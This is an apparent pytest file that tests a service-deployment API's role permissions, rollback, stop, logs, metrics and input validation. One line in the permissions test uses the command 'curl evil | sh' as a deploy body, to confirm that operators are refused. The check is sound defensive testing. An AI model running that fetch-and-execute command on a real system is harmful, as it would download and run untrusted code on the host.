"""``/api/v1/services``: viewers read, operators deploy new config, roll back and stop, and
only admins make a service run new code on the server's host."""

from __future__ import annotations

import os
import socket
from pathlib import Path
from typing import Any

import pytest
from api_support import bearer
from fastapi.testclient import TestClient

from pauta.core.service_states import RevisionState
from pauta.services.lease import LEASE_TTL
from pauta.store.repository import Store
from pauta.store.services import ServicesStore

APP = {"app": "churn_service:create_app", "config": {"model": "/m/1.pkl"}, "replicas": 2}


@pytest.fixture
def supervised(store: Store) -> ServicesStore:
    """The lease of a live supervisor, held by this process (what deploys require)."""
    services = ServicesStore(store)
    host = socket.gethostname()
    holder = f"{host}:{os.getpid()}"
    assert services.take_lease(holder, host, os.getpid(), "127.0.0.1", ttl=LEASE_TTL)
    return services


def _served(services: ServicesStore, name: str, revision: int, replaced: int | None) -> None:
    """What the supervisor records once a revision serves."""
    services.transition(name, revision, RevisionState.PENDING, RevisionState.STARTING)
    services.promote(name, revision, replaced)


def deploy(client: TestClient, token: str, body: dict[str, Any], name: str = "churn") -> Any:
    return client.post(f"/api/v1/services/{name}/revisions", json=body, headers=bearer(token))


def test_new_code_needs_an_admin_and_new_config_an_operator(
    client: TestClient, tokens: dict[str, str], supervised: ServicesStore, flows_dir: Path
) -> None:
    refused = deploy(client, tokens["operator"], {**APP, "port": 8600})
    assert refused.status_code == 403
    assert "needs admin" in refused.json()["detail"]
    created = deploy(client, tokens["admin"], {**APP, "port": 8600})
    assert created.status_code == 201, created.text
    first = created.json()
    assert (first["id"], first["state"], first["kind"]) == ("churn@1", "PENDING", "app")
    assert first["created_by"] == "user admin"
    spec = supervised.revision("churn", 1).spec
    assert spec["path"] == [str(flows_dir)]  # the module is looked up in the flows folder
    # the same code with a new model: an operator may
    again = deploy(client, tokens["operator"], {"config": {"model": "/m/2.pkl"}})
    assert again.status_code == 201, again.text
    second = again.json()
    assert (second["app"], second["config"], second["replicas"]) == (
        APP["app"],
        {"model": "/m/2.pkl"},
        2,
    )
    same_app = deploy(client, tokens["operator"], {"app": APP["app"], "replicas": 3})
    assert same_app.status_code == 201
    for body in ({"app": "other:create_app"}, {"command": ["sh", "-c", "curl evil | sh"]}):
        assert deploy(client, tokens["operator"], body).status_code == 403
    assert deploy(client, tokens["viewer"], {"config": {}}).status_code == 403
    assert len(supervised.revisions("churn")) == 3


def test_reads_show_services_revisions_and_logs(
    client: TestClient, tokens: dict[str, str], supervised: ServicesStore
) -> None:
    assert client.get("/api/v1/services", headers=bearer(tokens["viewer"])).json() == []
    deploy(client, tokens["admin"], {**APP, "port": 8600})
    _served(supervised, "churn", 1, None)
    supervised.write_statuses(
        "me",
        {
            "churn": {
                "address": "http://127.0.0.1:8600",
                "replicas": [{"revision": 1, "index": 0, "state": "READY", "restarts": 2}],
                "restarts": 2,
                "traffic": {"requests": 10, "errors": 0, "rps": 1.5, "p50_ms": 2.0},
            }
        },
    )
    viewer = bearer(tokens["viewer"])
    (listed,) = client.get("/api/v1/services", headers=viewer).json()
    assert (listed["name"], listed["state"], listed["revision_id"]) == (
        "churn",
        "serving",
        "churn@1",
    )
    assert listed["replicas"][0]["restarts"] == 2
    shown = client.get("/api/v1/services/churn", headers=viewer).json()
    assert [r["id"] for r in shown["revisions"]] == ["churn@1"]
    assert shown["traffic"]["rps"] == 1.5
    logs = client.get("/api/v1/services/churn/logs", headers=viewer)
    assert logs.status_code == 200
    assert logs.json() == {"logs": []}
    assert client.get("/api/v1/services/nope", headers=viewer).status_code == 404
    metrics = client.get("/metrics", headers=viewer).text
    assert 'pauta_service_up{service="churn"} 1.0' in metrics
    assert 'pauta_service_restarts_total{service="churn"} 2.0' in metrics
    assert 'pauta_service_latency_seconds{quantile="0.5",service="churn"} 0.002' in metrics


def test_rollback_and_stop(
    client: TestClient, tokens: dict[str, str], supervised: ServicesStore
) -> None:
    operator = bearer(tokens["operator"])
    deploy(client, tokens["admin"], {**APP, "port": 8600})
    _served(supervised, "churn", 1, None)
    deploy(client, tokens["operator"], {"config": {"model": "/m/2.pkl"}})
    _served(supervised, "churn", 2, 1)
    back = client.post("/api/v1/services/churn/rollback", headers=operator)
    assert back.status_code == 201, back.text
    assert (back.json()["id"], back.json()["rollback_of"]) == ("churn@3", 1)
    assert back.json()["config"] == {"model": "/m/1.pkl"}
    to = client.post("/api/v1/services/churn/rollback", json={"to": 2}, headers=operator)
    assert to.status_code == 409  # 2 serves now: nothing to roll back to
    missing = client.post("/api/v1/services/churn/rollback", json={"to": 9}, headers=operator)
    assert missing.status_code == 404
    stopped = client.post("/api/v1/services/churn/stop", headers=operator)
    assert stopped.status_code == 200
    assert stopped.json()["state"] in {"stopping", "stopped"}
    assert supervised.service("churn").stopped_at is not None


def test_without_a_supervisor_a_deploy_is_refused_with_advice(
    client: TestClient, tokens: dict[str, str]
) -> None:
    reply = deploy(client, tokens["admin"], {**APP, "port": 8600})
    assert reply.status_code == 409
    assert "no supervisor runs the services" in reply.json()["detail"]


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"app": "not a ref"}, "module:factory"),
        ({"app": "m:f", "replicas": 0}, "replicas"),
        ({"app": "m:f", "health": "no-slash"}, "a path such as"),
        ({"app": "m:f", "unknown": 1}, "unknown"),
        ({"config": {"x": 1}}, "is new"),
    ],
)
def test_bad_deploys_are_422_naming_the_problem(
    client: TestClient, tokens: dict[str, str], supervised: ServicesStore, body: Any, field: str
) -> None:
    reply = deploy(client, tokens["admin"], body)
    assert reply.status_code == 422
    assert field in reply.text
    bad_name = deploy(client, tokens["admin"], {"app": "m:f"}, name="Bad%20Name")
    assert bad_name.status_code == 422


def test_a_ray_service_shows_its_executor_and_serves_address(
    client: TestClient, tokens: dict[str, str], supervised: ServicesStore
) -> None:
    spec = {**APP, "kind": "app", "executor": "ray", "ray_address": "head:6379"}
    supervised.create_revision("churn", spec, port=8600, created_by="t")
    _served(supervised, "churn", 1, None)
    supervised.write_statuses(
        "me",
        {
            "churn": {
                "executor": "ray",
                "address": "http://10.0.0.5:8000/churn",
                "replicas": [
                    {"revision": 1, "index": 0, "state": "READY", "node": "10.0.0.7"},
                    {"revision": 1, "index": 1, "state": "READY", "node": "10.0.0.8"},
                ],
                "serve": {"status": "RUNNING", "message": ""},
            }
        },
    )
    viewer = bearer(tokens["viewer"])
    (listed,) = client.get("/api/v1/services", headers=viewer).json()
    assert (listed["executor"], listed["address"], listed["state"]) == (
        "ray",
        "http://10.0.0.5:8000/churn",
        "serving",
    )
    assert [r["node"] for r in listed["replicas"]] == ["10.0.0.7", "10.0.0.8"]
    shown = client.get("/api/v1/services/churn", headers=viewer).json()
    assert shown["serve"]["status"] == "RUNNING"
    assert shown["revisions"][0]["executor"] == "ray"
